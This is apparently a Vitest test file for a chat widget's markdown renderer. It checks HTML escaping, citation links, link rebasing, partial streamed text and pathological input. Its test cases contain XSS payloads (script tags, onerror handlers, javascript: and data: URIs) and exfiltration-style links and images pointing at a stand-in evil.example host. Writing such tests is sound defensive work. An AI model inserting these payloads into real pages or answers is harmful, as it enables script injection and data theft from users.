// @vitest-environment happy-dom
import { expect, test } from 'vitest';
import { answerText } from './answerText';

const install = { n: 1, title: 'Install', url: 'https://docs.example.com/install#run', text: 'Run it.' };
const manual = { n: 2, title: 'Welcome', url: '/manual/welcome', text: 'Hello.' };

function show(text: string, nearest = [manual]) {
  const made = document.createElement('div');
  made.append(
    answerText(text, { citations: [install], nearest, base: 'https://roost.example/widget/v1/w_1' }),
  );
  return made;
}

test('script and other HTML is shown as text, never made', () => {
  const made = show('Hi <script>pwned = 1</script> <img src=x onerror=alert(1)>\n\n<iframe src="/">');
  expect(made.querySelector('script, img, iframe')).toBeNull();
  expect(made.textContent).toContain('<script>pwned = 1</script>');
});

test.each([
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](https://evil.example/collect?q=secret)',
  '[x](https://docs.example.com.evil.example/install#run)',
  '![x](https://evil.example/?q=secret)',
  '<https://evil.example/>',
  'https://evil.example/',
  '[x](<//evil.example>)',
])('%s makes no link and loads nothing', (text) => {
  const made = show(text);
  expect(made.querySelector('a, img')).toBeNull();
  expect(made.textContent).not.toBe('');
});

test('an address that is no address of the web makes no link, although it is cited', () => {
  const made = document.createElement('div');
  const bad = { ...install, url: 'javascript:alert(1)' };
  made.append(
    answerText('See [1] and [x](javascript:alert(1)).', {
      citations: [bad],
      nearest: [],
      base: 'https://r.example',
    }),
  );
  expect(made.querySelector('a')).toBeNull();
});

test('a number links to its source; a number without one is text', () => {
  const made = show('Run it [1], not that [7].');
  const [mark] = Array.from(made.querySelectorAll('a'));
  expect(mark?.href).toBe('https://docs.example.com/install#run');
  expect(mark?.getAttribute('aria-label')).toBe('Source 1: Install');
  expect(mark?.rel).toContain('noopener');
  expect(made.textContent).toContain('[7]');
});

test('a page of Roost’s own manual is found at Roost, not at the site', () => {
  const made = show("The docs don't say. Closest pages:\n\n- [Welcome](/manual/welcome)");
  expect(made.querySelector('li a')?.getAttribute('href')).toBe('https://roost.example/manual/welcome');
});

test('code, lists, quotes, headings and tables', () => {
  const made = show(
    '## Set up\n\nRun `a*b*c` **now**:\n\n1. First\n   - inner\n2. Second\n\n> quoted **well**\n\n```sh\nperch add <b>\n```\n\n| A | B |\n| --- | --- |\n| 1 | x \\| y |',
  );
  expect(made.querySelector('p.heading')?.textContent).toBe('Set up');
  expect(made.querySelector('p code')?.textContent).toBe('a*b*c');
  expect(made.querySelectorAll('ol > li')).toHaveLength(2);
  expect(made.querySelector('ol ul li')?.textContent).toBe('inner');
  expect(made.querySelector('blockquote strong')?.textContent).toBe('well');
  expect(made.querySelector('pre code')?.textContent).toBe('perch add <b>');
  expect(made.querySelectorAll('td')[1]?.textContent).toBe('x | y');
});

test('half an answer is shown while it is written', () => {
  for (const text of [
    'Run it [',
    'Run it [1',
    '**bo',
    '```sh\nperch',
    '| A |\n| --',
    '[x](https://docs',
    '- ',
    '> ',
    '1. ',
  ])
    expect(show(text).textContent).not.toBe(null);
});

test('text of nothing but signs is read to its end', { timeout: 20_000 }, () => {
  for (const sign of ['*', '`', '[', '(', '_', '|', '> ', '- ', '\\', '![', '**a', '[1](', '| ']) {
    expect(show(sign.repeat(4000))).toBeTruthy();
    expect(show(`${sign.repeat(200)}\n`.repeat(20))).toBeTruthy();
  }
});
